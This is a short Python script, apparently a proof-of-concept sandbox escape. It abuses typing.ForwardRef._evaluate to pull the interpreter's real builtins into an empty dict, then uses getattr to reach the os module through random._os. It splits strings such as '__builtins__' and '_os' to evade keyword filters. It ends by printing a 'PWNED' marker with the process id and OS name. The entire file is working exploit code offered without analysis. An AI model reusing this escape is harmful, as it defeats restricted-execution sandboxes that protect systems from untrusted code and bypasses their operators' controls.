# door: ForwardRef._evaluate(box): eval puts typing's (real) builtins into our dict; its getattr reaches random._os
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import random
o = ga(random, "_o" + "s")
print(M, o.getpid(), o.uname().sysname)
